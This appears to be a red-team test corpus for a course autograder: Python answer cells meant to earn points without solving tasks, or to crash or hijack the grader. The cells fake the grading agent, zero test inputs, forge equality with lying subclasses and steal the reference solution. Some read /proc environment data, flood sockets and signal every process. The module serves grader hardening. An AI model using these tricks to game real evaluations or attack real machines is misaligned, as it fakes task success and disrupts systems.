"""Attacks on ``dlcourse grade``'s split design (student kernel <-> channel <-> checker), written as a
determined student who has read the grader's source.

Each attack is one answer cell that does NOT solve its task but tries to earn its points anyway, or
to crash, hang or abuse the grader. It replaces one answer cell of ``corpus.FAST`` (parts 1-3 and the
written answer answered, parts 4-5 unanswered).

``ATTACKS``: name -> (class, one-line description, the answer cell it replaces, code).
``expectation(name)``: what fair grading gives it: by default the per-cell scores of the same
notebook with that answer cell left unanswered (``REFERENCE``); ``"at_most"`` for attacks that can
only hurt their own author (they break the student's own channel for later cells, so later parts may
score less than the reference, never more); optional words that must appear in the row's problems;
whether a secret file's text must not reach the student (``SECRET``).

Placeholders in the code, filled in by the test: ``@SECRET@`` (the path of a file outside the
sandbox, readable by the grader's user, whose text no student may ever see).
"""
from __future__ import annotations

# Which reference row a replaced answer cell is compared with (FAST without that answer).
REFERENCE = {"part1_answer": "ref_no_part1", "part2_answer": "ref_no_part2", "part3_answer": "ref_no_part3",
             "part4_answer": "honest", "part5_answer": "honest"}

CLASSES = {
    "a": "reaching the grading machinery (channel, agent, wire, checker) from the student's kernel",
    "b": "interpreter-level hooks installed by an answer cell",
    "c": "looking up or forging the expected value instead of computing it",
    "d": "using the course's own reference implementation",
    "e": "Keras-model attacks against the checker (part 4)",
    "f": "resource attacks through the channel",
    "g": "held-out data (part 5)",
}

# ------------------------------------------------------------------------------------------------
# building blocks
# ------------------------------------------------------------------------------------------------
# The two visible part-1 tests' expected values are printed in the released notebook.
VISIBLE1 = r'''
import numpy as _np
def _visible1(image, kernel, stride):
    image = _np.asarray(image, dtype=float)
    if image.shape == (4, 4) and _np.shape(kernel) == (2, 2):
        if stride == 1:
            return _np.array([[0, -1, -1], [-1, 1, 3], [2, 0, -2]], dtype=float)
        return _np.array([[0, -1], [2, -2]], dtype=float)
    return None
def _shape1(image, kernel, stride):
    (h, w), (kh, kw) = _np.shape(image), _np.shape(kernel)
    return ((h - kh) // stride + 1, (w - kw) // stride + 1)
'''

JUNK1 = r'''
def convolve2d(image, kernel, stride=1):
    return _np.zeros((1, 1))
'''

# A replacement of dlcourse.grading.agent.serve that answers the checker itself: requests about
# _TARGET go to _lie(sock, header, buffers); everything else to the real handler, so that the
# other parts keep working.
FAKE_SERVE = r'''
import socket as _socket
import dlcourse.grading.agent as _agent
import dlcourse.grading.wire as _wire

def _forward(sock, header, buffers):
    reply, out = _agent._handle(_agent._namespace(), header, buffers)
    try:
        _wire.send(sock, reply, out)
    except _wire.NotPlainData as exc:
        _wire.send(sock, {"unsupported": str(exc)})

def _fake_serve(path, **kw):
    sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    sock.connect(path)
    try:
        _wire.send(sock, {"op": "hello"})
        while True:
            try:
                header, buffers = _wire.recv(sock)
            except Exception:
                return
            if header.get("op") == "done":
                return
            if header.get("name") == _TARGET and header.get("op") in ("get", "call", "has"):
                if header["op"] == "get":
                    _wire.send(sock, {"callable": True, "kind": "function"})
                elif header["op"] == "has":
                    _wire.send(sock, {"has": True})
                else:
                    _lie(sock, header, buffers)
            else:
                _forward(sock, header, buffers)
    finally:
        sock.close()

_agent.serve = _fake_serve
'''


def fake(lie: str, target: str = "convolve2d") -> str:
    return VISIBLE1 + JUNK1 + f"_TARGET = {target!r}\n" + FAKE_SERVE + lie


# Part 4: build_model returns a tiny real model; the agent's encoder is replaced so that what
# crosses is a configuration the student wrote by hand (the checker sees only the message).
def crafted_model(config_expr: str, compile_expr: str = "None", setup: str = "") -> str:
    return r'''
import json as _json
import dlcourse.grading.wire as _wire
def build_model(input_shape, num_classes):
    return keras.Sequential([keras.Input(shape=(2,)), keras.layers.Dense(1)])
''' + setup + f'''
def _crafted(model, buffers):
    config = {config_expr}
    comp = {compile_expr}
    return {{"t": "keras", "config": config if isinstance(config, str) else _json.dumps(config),
            "compile": None if comp is None else (comp if isinstance(comp, str) else _json.dumps(comp)),
            "weights": []}}
_wire.encode_model = _crafted
'''


def seq(*layers: str, input_shape="[None, 4]", dtype="float32") -> str:
    """A hand-written Sequential configuration (Python source of a dict)."""
    inp = ('{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": %s, "dtype": "%s", '
           '"sparse": False, "ragged": False, "name": "input_layer"}, "registered_name": None}' % (input_shape, dtype))
    return ('{"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, '
            '"layers": [%s]}, "registered_name": None}' % ", ".join([inp, *layers]))


def dense(units, activation='"linear"', extra="") -> str:
    return ('{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d%s", "units": %s, '
            '"activation": %s%s}, "registered_name": None}' % (units, units, activation, extra))


ATTACKS: dict[str, tuple[str, str, str, str]] = {}
EXPECT: dict[str, dict] = {}


def attack(name, cls, description, cell, code, *, mode="equal", words=(), secret=False):
    assert name not in ATTACKS, name
    ATTACKS[name] = (cls, description, cell, code)
    EXPECT[name] = {"reference": REFERENCE[cell], "mode": mode, "words": list(words), "secret": secret}


def expectation(name: str) -> dict:
    return EXPECT[name]


# ------------------------------------------------------------------------------------------------
# a. the grading machinery
# ------------------------------------------------------------------------------------------------
attack("a_fake_agent_rewrites_test_inputs", "a",
       "fake agent: visible answers hard-coded; for hidden calls it returns zeros and reports that the call "
       "zeroed the test's own input arrays (the checker copies 'changed' arguments back into its arrays)",
       "part1_answer", fake(r'''
def _lie(sock, header, buffers):
    args = _wire.decode(header["args"], buffers)
    kwargs = _wire.decode(header["kwargs"], buffers)
    image, kernel = args[0], args[1]
    stride = args[2] if len(args) > 2 else kwargs.get("stride", 1)
    out = []
    got = _visible1(image, kernel, stride)
    changed = {}
    if got is None:
        got = _np.zeros(_shape1(image, kernel, stride))
        changed = {"0": _wire.encode(_np.zeros_like(image), out), "1": _wire.encode(_np.zeros_like(kernel), out)}
    _wire.send(sock, {"value": _wire.encode(got, out), "changed": changed}, out)
'''))

attack("a_early_thread_agent", "a",
       "a background thread connects to the checker's socket before the real agent and answers as a fake "
       "agent with the visible answers and zeros",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import threading as _threading, time as _time, socket as _socket
import dlcourse.grading.agent as _agent, dlcourse.grading.wire as _wire
_paths = []
_real_serve = _agent.serve
def _spy_serve(path, **kw):
    _paths.append(path)
    return _real_serve(path, **kw)
_agent.serve = _spy_serve
def _intruder():
    while not _paths:
        _time.sleep(0.01)
    while True:
        try:
            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            s.connect(_paths[0])
            _wire.send(s, {"op": "hello"})
            while True:
                h, b = _wire.recv(s)
                if h.get("op") == "done":
                    break
                if h.get("name") == "convolve2d" and h.get("op") == "get":
                    _wire.send(s, {"callable": True})
                elif h.get("name") == "convolve2d" and h.get("op") == "call":
                    a = _wire.decode(h["args"], b)
                    k = _wire.decode(h["kwargs"], b)
                    st = a[2] if len(a) > 2 else k.get("stride", 1)
                    v = _visible1(a[0], a[1], st)
                    v = _np.zeros(_shape1(a[0], a[1], st)) if v is None else v
                    o = []
                    _wire.send(s, {"value": _wire.encode(v, o)}, o)
                else:
                    r, o = _agent._handle(_agent._namespace(), h, b)
                    _wire.send(s, r, o)
        except Exception:
            _time.sleep(0.005)
_threading.Thread(target=_intruder, daemon=True).start()
''', mode="at_most"),

attack("a_malformed_frame", "a", "the agent answers a call with bytes that are not a frame", "part1_answer",
       fake(r'''
def _lie(sock, header, buffers):
    sock.sendall(b"\x00\x00\x00\x10\x00\x00\x00\x00" + b"{not json at all}" + b"\xff" * 64)
'''))

attack("a_huge_frame_header", "a", "a frame header that announces a 4 GiB JSON header and 4 billion buffers",
       "part1_answer", fake(r'''
import struct as _struct
def _lie(sock, header, buffers):
    sock.sendall(_struct.pack("!II", 2**32 - 1, 2**32 - 1) + b"x" * 1024)
'''))

attack("a_deeply_nested_frame", "a", "a reply whose JSON header is nested 200,000 levels deep", "part1_answer",
       fake(r'''
import struct as _struct
def _lie(sock, header, buffers):
    head = b'{"value": ' + b"[" * 200000 + b"]" * 200000 + b"}"
    sock.sendall(_struct.pack("!II", len(head), 0) + head)
'''))

attack("a_nan_and_lying_frames", "a",
       "replies with NaN literals in the JSON, a NaN array, an array that claims more data than it has and a "
       "zero-byte array of shape (10**9, 10**9)", "part1_answer", fake(r'''
import struct as _struct, itertools as _it
_n = _it.count()
def _lie(sock, header, buffers):
    i = next(_n) % 4
    if i == 0:
        head = b'{"value": NaN}'
        sock.sendall(_struct.pack("!II", len(head), 0) + head)
    elif i == 1:
        out = []
        _wire.send(sock, {"value": _wire.encode(_np.full((3, 3), _np.nan), out)}, out)
    elif i == 2:
        _wire.send(sock, {"value": {"t": "array", "dtype": "<f8", "shape": [3, 3], "b": 0}}, [b"\x00" * 8])
    else:
        _wire.send(sock, {"value": {"t": "array", "dtype": "<f8", "shape": [10**9, 10**9, 0], "b": 0}}, [b""])
'''))

attack("a_pipelined_replay", "a",
       "answers 'get' with two frames at once (a pipelined, replayed reply meant for the next call: the "
       "visible answer) so the checker reads a stale frame as the call's result", "part1_answer", fake(r'''
def _lie(sock, header, buffers):
    out = []
    _wire.send(sock, {"value": _wire.encode(_np.array([[0, -1, -1], [-1, 1, 3], [2, 0, -2]], float), out)}, out)
    out = []
    _wire.send(sock, {"value": _wire.encode(_np.array([[0, -1], [2, -2]], float), out)}, out)
''').replace('_wire.send(sock, {"callable": True, "kind": "function"})',
             '_wire.send(sock, {"callable": True, "kind": "function"}); _lie(sock, header, buffers)'))

attack("a_slowloris_reply", "a", "sends a correct-looking reply one byte every 2 seconds (each recv is within "
       "the socket timeout)", "part1_answer", fake(r'''
import time as _time
def _lie(sock, header, buffers):
    out = []
    data = _wire.pack({"value": _wire.encode(_np.zeros((3, 3)), out)}, out)
    for i in range(len(data)):
        sock.sendall(data[i:i + 1])
        _time.sleep(2)
'''))

attack("a_probe_proc_fds_connection_files", "a",
       "reads /proc, the environment, open file descriptors and mount table, looks for the checker's "
       "connection file and kernel sockets next to the channel socket and tries to run code in the checker",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import os as _os, glob as _glob, json as _json
_found = []
for _p in _glob.glob("/proc/[0-9]*"):
    for _f in ("cmdline", "environ"):
        try:
            _found.append(open(f"{_p}/{_f}", "rb").read()[:200])
        except OSError:
            pass
try:
    _fds = _os.listdir("/proc/self/fd")
except OSError:
    _fds = []
_mounts = open("/proc/self/mountinfo").read()
_chans = [line.split()[4] for line in _mounts.splitlines() if "chan" in line]
for _c in _chans:
    for _cand in _glob.glob(_os.path.join(_os.path.dirname(_c), "**"), recursive=True):
        _found.append(_cand)
        if _cand.endswith(".json"):
            try:
                _info = _json.load(open(_cand))
                import jupyter_client as _jc
                _kc = _jc.BlockingKernelClient()
                _kc.load_connection_info(_info)
                _kc.start_channels()
                _kc.execute("import dlcourse.checks as c; c.check_array = lambda *a, **k: None; "
                            "c.call = lambda f, *a, what=None, hint=None, **k: None")
            except Exception as _exc:
                _found.append(repr(_exc))
print(len(_found), "things found;", len(_fds), "fds;", _chans)
'''),

attack("a_signal_everything", "a", "sends SIGSTOP/SIGTERM to every process it can see, and to -1",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import os as _os, signal as _signal
for _pid in range(1, 4096):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGSTOP)
        except OSError:
            pass
try:
    _os.kill(-1, _signal.SIGTERM)
except OSError:
    pass
'''),

attack("a_connection_flood", "a",
       "a thread opens hundreds of silent connections to the checker's socket so the real agent cannot get in",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import threading as _threading, time as _time, socket as _socket
import dlcourse.grading.agent as _agent
_paths = []
_real_serve = _agent.serve
def _spy_serve(path, **kw):
    _paths.append(path)
    return _real_serve(path, **kw)
_agent.serve = _spy_serve
_held = []
def _flood():
    while not _paths:
        _time.sleep(0.01)
    while True:
        try:
            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            s.settimeout(0.2)
            s.connect(_paths[0])
            _held.append(s)
            if len(_held) > 300:
                _held.pop(0).close()
        except OSError:
            _time.sleep(0.01)
_threading.Thread(target=_flood, daemon=True).start()
''', mode="at_most"),

attack("a_patch_agent_handle_changed", "a",
       "patches agent._handle (not serve) so that every call of convolve2d reports its array arguments as "
       "changed to zeros", "part1_answer", VISIBLE1 + r'''
import dlcourse.grading.agent as _agent, dlcourse.grading.wire as _wire
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    return got if got is not None else _np.zeros(_shape1(image, kernel, stride))
_real_handle = _agent._handle
def _handle(ns, header, buffers):
    reply, out = _real_handle(ns, header, buffers)
    if header.get("op") == "call" and header.get("name") == "convolve2d" and "value" in reply:
        args = _wire.decode(header["args"], buffers)
        if _visible1(args[0], args[1], 1) is None:
            reply["changed"] = {str(i): _wire.encode(_np.zeros_like(a), out)
                                for i, a in enumerate(args) if isinstance(a, _np.ndarray)}
    return reply, out
_agent._handle = _handle
'''),

# ------------------------------------------------------------------------------------------------
# b. interpreter-level hooks
# ------------------------------------------------------------------------------------------------
attack("b_settrace_rewrites_replies", "b",
       "sys.settrace (and threading.settrace) that rewrites the agent's reply in _handle's frame to the visible "
       "answers", "part1_answer", VISIBLE1 + JUNK1 + r'''
import sys as _sys, threading as _threading
def _tracer(frame, event, arg):
    if frame.f_code.co_name == "_handle":
        def _local(fr, ev, a):
            if ev == "return" and fr.f_locals.get("name") == "convolve2d" and isinstance(a, tuple) \
                    and isinstance(a[0], dict) and "value" in a[0]:
                a[0]["value"] = {"t": "array", "dtype": "<f8", "shape": [3, 3], "b": len(a[1])}
                a[1].append(_np.array([[0, -1, -1], [-1, 1, 3], [2, 0, -2]], float).tobytes())
            return _local
        return _local
    return None
_sys.settrace(_tracer)
_threading.settrace(_tracer)
'''),

attack("b_setprofile_hook", "b", "sys.setprofile hook that swaps convolve2d's result on the way out",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import sys as _sys
def _prof(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "convolve2d":
        frame.f_locals["__result__"] = "swap"
_sys.setprofile(_prof)
'''),

attack("b_audit_hook_blocks_channel", "b",
       "sys.addaudithook that refuses the agent's socket connections (the tests cannot reach the student)",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import sys as _sys
def _audit(event, args):
    if event in ("socket.connect", "socket.__new__"):
        raise PermissionError("no grading today")
_sys.addaudithook(_audit)
''', mode="at_most"),

attack("b_display_and_except_hooks", "b",
       "sys.displayhook, sys.excepthook, IPython's set_custom_exc and showtraceback replaced to swallow errors",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
import sys as _sys
_sys.displayhook = lambda value: None
_sys.excepthook = lambda *a: None
_sys.unraisablehook = lambda *a: None
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
_ip.showtraceback = lambda *a, **k: None
'''),

attack("b_thread_patches_while_serving", "b",
       "a background thread waits until the agent serves a test and then swaps convolve2d in the namespace "
       "and the agent's encoder mid-test", "part1_answer", VISIBLE1 + JUNK1 + r'''
import sys as _sys, threading as _threading, time as _time
import dlcourse.grading.wire as _wire
_real_encode = _wire.encode
def _lying_encode(value, buffers, **kw):
    if isinstance(value, _np.ndarray) and value.shape == (1, 1):
        value = _np.array([[0, -1, -1], [-1, 1, 3], [2, 0, -2]], float)
    return _real_encode(value, buffers, **kw)
def _watch():
    while True:
        for frame in list(_sys._current_frames().values()):
            f = frame
            while f is not None:
                if f.f_code.co_name == "serve":
                    _wire.encode = _lying_encode
                    get_ipython().user_ns["convolve2d"] = lambda *a, **k: _np.zeros((1, 1))
                f = f.f_back
        _time.sleep(0.001)
_threading.Thread(target=_watch, daemon=True).start()
'''),

attack("b_code_object_swap", "b",
       "replaces the code objects of agent._handle and wire.fingerprint (and writes into a code object's "
       "bytes with ctypes)", "part1_answer", VISIBLE1 + JUNK1 + r'''
import ctypes as _ctypes
import dlcourse.grading.agent as _agent, dlcourse.grading.wire as _wire
def _always_changed(value):
    import random
    return random.random()
_wire.fingerprint.__code__ = _always_changed.__code__
try:
    _code = _agent._describe_exception.__code__.co_code
    _buf = (_ctypes.c_char * len(_code)).from_address(id(_code) + 32)
    _ = bytes(_buf[:4])
except Exception:
    pass
'''),

attack("b_input_transformer_rewrites_serve", "b",
       "an IPython input transformer rewrites the grader's own `serve(...)` request in the student's kernel into "
       "code that answers with the visible values", "part1_answer", VISIBLE1 + JUNK1 + r'''
def _rewrite(lines):
    text = "".join(lines)
    if "dlcourse.grading.agent" in text and ".serve(" in text:
        text = text.replace("convolve2d", "convolve2d")
        text = ("get_ipython().user_ns['convolve2d'] = lambda image, kernel, stride=1: "
                "_visible1(image, kernel, stride) if _visible1(image, kernel, stride) is not None "
                "else _np.zeros(_shape1(image, kernel, stride))\n" + text)
    return text.splitlines(True)
get_ipython().input_transformers_post.append(_rewrite)
'''),

attack("b_atexit_and_sigint", "b",
       "ignores SIGINT, registers atexit handlers and a convolve2d that blocks until killed", "part1_answer",
       VISIBLE1 + r'''
import atexit as _atexit, signal as _signal, time as _time
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
_atexit.register(lambda: open("/tmp/atexit-ran", "w").write("x"))
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    if got is not None:
        return got
    while True:
        _time.sleep(1)
'''),

# ------------------------------------------------------------------------------------------------
# c. the expected value, looked up or forged
# ------------------------------------------------------------------------------------------------
attack("c_inplace_zero_inputs_part1", "c",
       "visible answers hard-coded; hidden calls return zeros and zero the image and kernel in place, so the "
       "test's reference _conv2d(_img, _ker), evaluated after the call, is zeros too", "part1_answer",
       VISIBLE1 + r'''
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    if got is not None:
        return got
    out = _np.zeros(_shape1(image, kernel, stride))
    image[...] = 0
    kernel[...] = 0
    return out
'''),

attack("c_inplace_zero_inputs_part3", "c",
       "visible answers hard-coded; hidden calls zero the feature map in place (the test computes the reference "
       "from it after the call)", "part3_answer", r'''
import numpy as _np
def _blank(x, p, s):
    out = _np.zeros(((x.shape[0] - p) // s + 1, (x.shape[1] - p) // s + 1))
    x[...] = 0
    return out
def max_pool(feature_map, pool_size=2, stride=2):
    if _np.shape(feature_map) == (4, 4) and (pool_size, stride) == (2, 2):
        return _np.array([[6, 4], [7, 9]], float)
    return _blank(feature_map, pool_size, stride)
def average_pool(feature_map, pool_size=2, stride=2):
    if _np.shape(feature_map) == (4, 4) and (pool_size, stride) == (2, 2):
        return _np.array([[3.75, 2.25], [2.5, 4.0]], float)
    return _blank(feature_map, pool_size, stride)
'''),

attack("c_inplace_nan_inputs", "c",
       "hidden calls fill the inputs with NaN in place and return NaN (NaN == NaN for a careless comparison)",
       "part1_answer", VISIBLE1 + r'''
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    if got is not None:
        return got
    image[...] = _np.nan
    kernel[...] = _np.nan
    return _np.full(_shape1(image, kernel, stride), _np.nan)
'''),

attack("c_frames_and_stack", "c",
       "inspects the caller's frames (sys._getframe, inspect.stack) for the expected value or the test's "
       "_conv2d", "part1_answer", VISIBLE1 + r'''
import sys as _sys, inspect as _inspect
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    if got is not None:
        return got
    f = _sys._getframe(1)
    while f is not None:
        for k, v in list(f.f_locals.items()) + list(f.f_globals.items()):
            if k in ("_conv2d", "conv2d"):
                return v(_np.asarray(image)[:, :, None], kernel, strides=stride)[:, :, 0]
            if isinstance(v, _np.ndarray) and v.shape == _shape1(image, kernel, stride) and v is not image:
                return v
        f = f.f_back
    for info in _inspect.stack():
        if "expected" in info.frame.f_locals:
            return info.frame.f_locals["expected"]
    return _np.zeros(_shape1(image, kernel, stride))
'''),

attack("c_gc_scan", "c", "scans gc.get_objects / gc.get_referrers for an array of the right shape or the "
       "reference function", "part1_answer", VISIBLE1 + r'''
import gc as _gc
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    if got is not None:
        return got
    shape = _shape1(image, kernel, stride)
    for obj in _gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "conv2d" and "cnn" in getattr(obj, "__module__", ""):
            return obj(_np.asarray(image)[:, :, None], kernel, strides=stride)[:, :, 0]
    for ref in _gc.get_referrers(image):
        if isinstance(ref, dict):
            for v in ref.values():
                if isinstance(v, _np.ndarray) and v.shape == shape:
                    return v
    return _np.zeros(shape)
'''),

attack("c_shadow_test_names", "c",
       "defines check_array, check_equal, call, np, len, float, isinstance, _conv2d, _rng, image, kernel at top "
       "level (hoping the checker resolves them to the student's)", "part1_answer", VISIBLE1 + r'''
def convolve2d(image, kernel, stride=1):
    return _np.zeros((1, 1))
check_array = lambda *a, **k: None
check_equal = lambda *a, **k: None
call = lambda f, *a, what=None, hint=None, **k: None
len = lambda x: 0
float = lambda x=0: 0.0
isinstance = lambda *a: True
_conv2d = lambda *a, **k: _np.zeros((1, 1, 1))
_rng = None
image = kernel = None
np = None
''', mode="at_most"),

attack("c_ndarray_subclass_liar", "c", "returns an ndarray subclass whose ==, __array__, allclose hooks lie",
       "part1_answer", VISIBLE1 + r'''
class _Liar(_np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None): return _np.asarray(_np.zeros((3, 3)))
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return _np.bool_(True)
def convolve2d(image, kernel, stride=1):
    return _np.zeros(_shape1(image, kernel, stride)).view(_Liar)
'''),

attack("c_float_int_subclasses", "c", "output_size returns int/float subclasses whose == always holds",
       "part2_answer", r'''
class _Int(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class _Float(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
def output_size(n, kernel_size, stride=1, padding="valid"):
    return _Int(0) if padding == "valid" else _Float(0.0)
'''),

attack("c_list_dict_subclasses", "c", "convolve2d returns a list subclass / dict subclass that compare equal "
       "to anything", "part1_answer", VISIBLE1 + r'''
class _L(list):
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None): return _np.zeros((3, 3))
class _D(dict):
    def __eq__(self, other): return True
_n = [0]
def convolve2d(image, kernel, stride=1):
    _n[0] += 1
    shape = _shape1(image, kernel, stride)
    return _L(_np.zeros(shape).tolist()) if _n[0] % 2 else _D(a=1)
'''),

attack("c_array_protocol_objects", "c",
       "returns plain objects with __array_interface__ / __array__ / __float__ that build the expected array on "
       "the other side", "part1_answer", VISIBLE1 + r'''
class _Iface:
    def __init__(self, shape):
        self._a = _np.zeros(shape)
        self.__array_interface__ = self._a.__array_interface__
    def __array__(self, dtype=None, copy=None): return self._a
    def __float__(self): return 0.0
    def __eq__(self, other): return True
def convolve2d(image, kernel, stride=1):
    return _Iface(_shape1(image, kernel, stride))
'''),

attack("c_exotic_arrays", "c", "masked arrays, object and structured dtypes, np.matrix, a datetime array, a "
       "read-only strided view", "part3_answer", r'''
import numpy as _np
_k = [0]
def _odd(shape):
    _k[0] += 1
    i = _k[0] % 5
    if i == 0:
        return _np.ma.masked_all(shape)
    if i == 1:
        return _np.array(_np.zeros(shape), dtype=object)
    if i == 2:
        return _np.zeros(shape, dtype=[("a", float)])
    if i == 3:
        return _np.matrix(_np.zeros(shape))
    return _np.zeros(shape, dtype="datetime64[s]")
def max_pool(feature_map, pool_size=2, stride=2):
    x = _np.asarray(feature_map)
    return _odd(((x.shape[0] - pool_size) // stride + 1, (x.shape[1] - pool_size) // stride + 1))
average_pool = max_pool
'''),

attack("c_value_changes_between_reads", "c",
       "a result array whose memory a background thread keeps rewriting while the agent encodes it",
       "part1_answer", VISIBLE1 + r'''
import threading as _threading, time as _time
_live = []
def _flip():
    end = _time.monotonic() + 60
    while _time.monotonic() < end:
        for a in list(_live):
            a[...] = _np.random.normal(size=a.shape)
        if not _live:
            _time.sleep(0.01)
_threading.Thread(target=_flip, daemon=True).start()
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    if got is not None:
        return got
    out = _np.zeros(_shape1(image, kernel, stride))
    _live.append(out)
    return out
'''),

attack("c_read_disk_for_tests", "c",
       "searches every readable file for the solution notebook or the test source and runs a convolve2d "
       "found there", "part1_answer", VISIBLE1 + JUNK1 + r'''
import os as _os, json as _json
def _search():
    for root in ("/", ):
        for dirpath, dirs, files in _os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
            for f in files:
                if f.endswith((".ipynb", ".py")) and ("cnn" in f or "nbtools" in f or "corpus" in f):
                    try:
                        text = open(_os.path.join(dirpath, f)).read()
                    except OSError:
                        continue
                    if "### BEGIN SOLUTION" in text and "def convolve2d" in text:
                        return text
    return None
_text = _search()
if _text is not None:
    for _cell in _json.loads(_text)["cells"]:
        _src = "".join(_cell["source"])
        if _src.startswith("def convolve2d"):
            exec(_src)
'''),

attack("c_read_history", "c", "reads In/Out, _ih and the history database for the test cells' expected values",
       "part1_answer", VISIBLE1 + JUNK1 + r'''
_hist = []
try:
    _hist += list(In) + [repr(v) for v in Out.values()]
    _hist += [s for _, _, s in get_ipython().history_manager.get_range(raw=True)]
    _hist += [s for _, _, s in get_ipython().history_manager.search("*check_array*")]
except Exception as _exc:
    _hist.append(repr(_exc))
_tests = [h for h in _hist if "_conv2d" in h or "check_array(" in h]
if _tests:
    exec(_tests[-1].split("check_array(")[0])
'''),

attack("c_hardcode_visible_only", "c", "returns the two visible answers and zeros otherwise (baseline)",
       "part1_answer", VISIBLE1 + r'''
def convolve2d(image, kernel, stride=1):
    got = _visible1(image, kernel, stride)
    return got if got is not None else _np.zeros(_shape1(image, kernel, stride))
'''),

# ------------------------------------------------------------------------------------------------
# d. the reference implementation
# ------------------------------------------------------------------------------------------------
attack("d_import_reference", "d", "from dlcourse.cnn import conv2d", "part1_answer", r'''
from dlcourse.cnn import conv2d
def convolve2d(image, kernel, stride=1):
    return conv2d(image[:, :, None], kernel, strides=stride)[:, :, 0]
''', words=["off limits"]),

attack("d_importlib_tricks", "d",
       "importlib: drops cached modules, invalidates caches, imports dlcourse.cnn under other names, via "
       "__import__, find_spec and pkgutil", "part1_answer", VISIBLE1 + JUNK1 + r'''
import importlib as _il, importlib.util as _ilu, pkgutil as _pk, sys as _sys
_ref = None
for _name in list(_sys.modules):
    if _name.startswith("dlcourse.cnn"):
        del _sys.modules[_name]
_il.invalidate_caches()
for _try in (lambda: _il.import_module("dlcourse.cnn"), lambda: __import__("dlcourse.cnn", fromlist=["conv2d"]),
             lambda: _il.import_module(".cnn", "dlcourse"),
             lambda: _ilu.module_from_spec(_ilu.find_spec("dlcourse.cnn"))):
    try:
        _m = _try()
        if hasattr(_m, "conv2d"):
            _ref = _m.conv2d
            break
    except BaseException:
        pass
if _ref is not None:
    def convolve2d(image, kernel, stride=1):
        return _ref(_np.asarray(image)[:, :, None], kernel, strides=stride)[:, :, 0]
'''),

attack("d_source_from_disk", "d",
       "looks for dlcourse/cnn.py anywhere (sys.path, site-packages, the editable install's direct_url.json, "
       "git objects) and runs it", "part1_answer", VISIBLE1 + JUNK1 + r'''
import os as _os, sys as _sys, glob as _glob, json as _json, zlib as _zlib
_cands = []
for _p in _sys.path + ["/work", "/home", "/opt", "/srv", "/tmp", "/root", "/mnt"]:
    _cands += _glob.glob(_os.path.join(_p, "**", "cnn.py"), recursive=True)[:50]
try:
    import importlib.metadata as _md
    _d = _md.distribution("dlcourse")
    _url = _json.loads(_d.read_text("direct_url.json") or "{}").get("url", "")
    _cands.append(_url.replace("file://", "") + "/dlcourse/cnn.py")
    _cands += [str(_d.locate_file(f)) for f in (_d.files or []) if str(f).endswith("cnn.py")]
except Exception:
    pass
_ns = {}
for _c in _cands:
    try:
        _src = open(_c).read()
    except OSError:
        continue
    if "def conv2d" in _src:
        exec(compile(_src, _c, "exec"), _ns)
        break
for _g in _glob.glob("/work/**/.git/objects/??/*", recursive=True)[:20000]:
    if "conv2d" in _ns:
        break
    try:
        _blob = _zlib.decompress(open(_g, "rb").read())
    except Exception:
        continue
    if b"def conv2d" in _blob and b"def max_pool2d" in _blob:
        exec(_blob.split(b"\x00", 1)[1].decode(), _ns)
if "conv2d" in _ns:
    def convolve2d(image, kernel, stride=1):
        return _ns["conv2d"](_np.asarray(image)[:, :, None], kernel, strides=stride)[:, :, 0]
'''),

attack("d_cached_pyc", "d", "looks for a compiled cnn.cpython-*.pyc (and PYTHONPYCACHEPREFIX) and loads it "
       "with marshal", "part1_answer", VISIBLE1 + JUNK1 + r'''
import os as _os, sys as _sys, glob as _glob, marshal as _marshal
import dlcourse as _dl
_dirs = [_os.path.dirname(_dl.__file__), _sys.pycache_prefix or "", "/tmp", _os.path.expanduser("~")] + _sys.path
_ns = {}
for _d in _dirs:
    for _f in _glob.glob(_os.path.join(_d, "**", "cnn*.pyc"), recursive=True)[:20]:
        try:
            exec(_marshal.loads(open(_f, "rb").read()[16:]), _ns)
        except Exception:
            continue
        if "conv2d" in _ns:
            break
if "conv2d" in _ns:
    def convolve2d(image, kernel, stride=1):
        return _ns["conv2d"](_np.asarray(image)[:, :, None], kernel, strides=stride)[:, :, 0]
'''),

attack("d_other_path", "d", "spec_from_file_location on guessed paths of the repository and the original "
       "package (/proc/1/cwd, /proc/self/root, the checker's folder)", "part1_answer", VISIBLE1 + JUNK1 + r'''
import importlib.util as _ilu, os as _os
_paths = ["/work/main/dlcourse/cnn.py", "/proc/1/cwd/dlcourse/cnn.py", "/proc/self/root/work/main/dlcourse/cnn.py",
          "/proc/1/root/work/main/dlcourse/cnn.py", _os.path.expanduser("~/../../dlcourse/cnn.py")]
